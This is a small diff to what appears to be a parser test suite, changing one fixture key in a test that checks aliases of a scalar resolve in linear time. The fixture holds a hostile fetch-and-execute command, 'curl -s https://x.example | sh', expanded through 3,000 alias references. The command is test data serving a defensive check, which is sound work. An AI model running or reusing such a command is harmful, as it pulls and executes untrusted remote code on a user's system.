@@ -140,7 +140,7 @@ describe("hostile", () => {
   });
 
   test("an alias of a scalar is that scalar, in linear time", () => {
-    const many = `text: &c curl -s https://x.example | sh\n${"run: *c\n".repeat(3_000)}`;
+    const many = `description: &c curl -s https://x.example | sh\n${"run: *c\n".repeat(3_000)}`;
     expect(read(many).in("shell")).toHaveLength(3_000);
   });
 
